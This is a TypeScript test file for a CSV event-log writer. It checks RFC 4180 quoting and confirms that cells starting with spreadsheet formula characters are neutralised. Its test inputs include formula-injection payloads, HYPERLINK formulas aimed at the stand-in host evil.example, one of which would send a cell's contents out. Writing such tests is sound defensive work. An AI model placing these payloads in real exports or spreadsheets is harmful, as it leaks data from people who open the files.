/**
 * The CSV event log as a pure function: RFC 4180 quoting, formula neutralisation (security.md), and a round trip
 * through a small RFC 4180 reader written here (no database).
 */
import { describe, expect, it } from 'vitest';
import { csvCell, csvColumns, csvWriter } from './csv.ts';
import { eventRow } from './event-row-fixture.ts';

/** RFC 4180, read back: quoted fields may hold commas, doubled quotes and line breaks; records end in CRLF. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
      } else {
        field += c;
        i++;
      }
    } else if (c === '"' && field === '') {
      quoted = true;
      i++;
    } else if (c === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      expect(c, `a bare ${JSON.stringify(c)} outside quotes at ${i}`).not.toMatch(/["\r\n]/);
      field += c;
      i++;
    }
  }
  expect(quoted, 'a quoted field left open').toBe(false);
  expect(field === '' && record.length === 0, 'the last record ends in CRLF').toBe(true);
  return records;
}

const row = eventRow;

describe('csvCell', () => {
  it('leaves plain text alone and quotes what RFC 4180 needs quoted', () => {
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell(null)).toBe('');
    expect(csvCell('')).toBe('');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
    expect(csvCell('Zoë — 東京')).toBe('Zoë — 東京');
  });

  it('neutralises every cell a spreadsheet would run as a formula, and only those', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const cell = csvCell(`${start}HYPERLINK("http://evil.example","x")`);
      // A leading quote, inside RFC 4180 quotes where the text needs them.
      expect(cell.replace(/^"/, '').startsWith(`'${start}`)).toBe(true);
    }
    expect(csvCell('=1+2')).toBe("'=1+2");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('a=1')).toBe('a=1');
    expect(csvCell(' =1')).toBe(' =1');
    expect(csvCell("'already")).toBe("'already");
  });
});

describe('csvWriter', () => {
  it('writes a header and one record per event that read back exactly (formulas neutralised)', () => {
    const w = csvWriter();
    const rows = [
      row(),
      row({ activity: 'screened', at: Date.parse('2026-03-05T00:00:00Z'), direction: null, source: null }),
      row({
        caseId: '6f1c1d1e-0000-4000-8000-000000000002',
        caseName: 'O"Brien, "Pat"',
        caseType: 'client',
        activity: 'note',
        summary: '=HYPERLINK("http://evil.example/?"&A1,"Click")\r\nsecond line',
        resource: 'Waypoint',
      }),
    ];
    const text = w.start() + w.rows(rows.slice(0, 1)) + w.rows(rows.slice(1)) + w.end();
    const records = readCsv(text);
    expect(records[0]).toEqual([...csvColumns]);
    expect(records).toHaveLength(4);
    for (const r of records) expect(r).toHaveLength(csvColumns.length);
    const get = (r: string[], col: (typeof csvColumns)[number]) => r[csvColumns.indexOf(col)];
    expect(get(records[1]!, 'timestamp')).toBe('2026-03-04T05:06:07.089Z');
    expect(get(records[2]!, 'timestamp')).toBe('2026-03-05T00:00:00.000Z');
    expect(get(records[2]!, 'direction')).toBe('');
    expect(get(records[2]!, 'source')).toBe('');
    expect(get(records[3]!, 'case_name')).toBe('O"Brien, "Pat"');
    expect(get(records[3]!, 'case_type')).toBe('client');
    expect(get(records[3]!, 'summary')).toBe(
      '\'=HYPERLINK("http://evil.example/?"&A1,"Click")\r\nsecond line',
    );
    // No cell of the file starts like a formula.
    for (const r of records) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes only a header for an empty log', () => {
    const w = csvWriter();
    expect(readCsv(w.start() + w.end())).toEqual([[...csvColumns]]);
  });
});
